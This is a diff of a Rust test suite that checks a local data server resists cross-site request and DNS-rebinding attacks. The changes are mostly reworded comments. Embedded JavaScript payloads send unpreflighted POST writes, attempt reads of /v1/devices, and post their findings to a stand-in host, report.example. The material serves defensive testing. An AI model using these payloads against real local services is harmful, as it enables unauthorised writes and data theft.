@@ -17,13 +17,14 @@ use crate::harness::{Server, Setup};
 
 const ATTACKER: &str = "127.0.0.2";
 
-/// Writes as pages may without asking first, and tries to read.
+/// Sends the writes that a page may send without a preflight request, and tries to read.
 const CROSS_SITE: &str = r#"
 const server = `http://127.0.0.1:${location.port}`;
 for (const path of ["/write", "/api/v2/write", "/api/v3/write_lp"]) {
   for (const type of ["text/plain", "application/x-www-form-urlencoded"]) {
     const line = "m,deviceId=written value=1";
-    await attempt(path, fetch(server + path, {method: "POST", mode: "no-cors", headers: {"content-type": type}, body: line}));
+    const request = {method: "POST", mode: "no-cors", headers: {"content-type": type}, body: line};
+    await attempt(path, fetch(server + path, request));
   }
 }
 await new Promise(loaded => {
@@ -43,7 +44,7 @@ await new Promise(loaded => {
 for (const mode of ["cors", "no-cors"]) await attempt("read", fetch(server + "/v1/devices", {mode}));
 "#;
 
-/// Does what it likes under its own name, which leads to the server.
+/// Sends any requests to its own name, which resolves to the server.
 const REBINDING: &str = r#"
 const body = JSON.stringify({deviceId: "written", value: 1});
 await attempt("write", fetch("/v1/readings", {method: "POST", headers: {"content-type": "application/json"}, body}));
@@ -64,7 +65,7 @@ async function attempt(name, fetching) {{
   }}
 }}
 {script}
-// Under a name of its own, and so on a connection of its own.
+// Another name, and so another connection.
 const report = `http://report.example:${{location.port}}/report`;
 await fetch(report, {{method: "POST", mode: "no-cors", body: JSON.stringify(found)}});
 </script>"#
@@ -104,7 +105,7 @@ impl Drop for Chromium {
     }
 }
 
-/// Where Chromium is. Installs it when it is not there yet.
+/// The path of Chromium, which is installed first if it is missing.
 fn chromium() -> String {
     let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/get-chromium");
     let output = Command::new("python3").arg(script).stdin(Stdio::null()).output().expect("python3 is installed");
@@ -112,7 +113,7 @@ fn chromium() -> String {
     String::from_utf8(output.stdout).expect("a path").trim_end().to_owned()
 }
 
-/// Hands out a page, hears what its script found, and passes everything else on to the server.
+/// Serves a page, receives the report of its script, and forwards all other requests to the server.
 async fn attacker(listener: TcpListener, server: std::net::SocketAddr, page: String, reports: mpsc::Sender<Value>) {
     loop {
         let (stream, _) = listener.accept().await.expect("the attacker listens");
@@ -160,7 +161,7 @@ async fn attend(
     copy_bidirectional(&mut browser, &mut server).await.map(drop)
 }
 
-/// Shows the attacker's page, and returns what its script found.
+/// Opens the attacker's page and returns the report of its script.
 async fn attack(server: &Server, name: &str, script: &str) -> Vec<Value> {
     let address = server.http_addr();
     let listener = TcpListener::bind((ATTACKER, address.port())).await.expect("the port is free on the other address");
@@ -194,7 +195,7 @@ async fn a_page_that_rebinds_its_name_stores_and_reads_nothing() {
     nothing_is_stored(&server).await;
 }
 
-/// The attack is real: where the name is allowed, it succeeds.
+/// A control: the attack succeeds under an allowed name.
 #[tokio::test(flavor = "multi_thread")]
 async fn a_page_under_a_name_that_is_allowed_writes_and_reads() {
     let server = Server::start(Setup::sqlite().set("http.allowed_hosts", vec!["rebind.example"])).await;
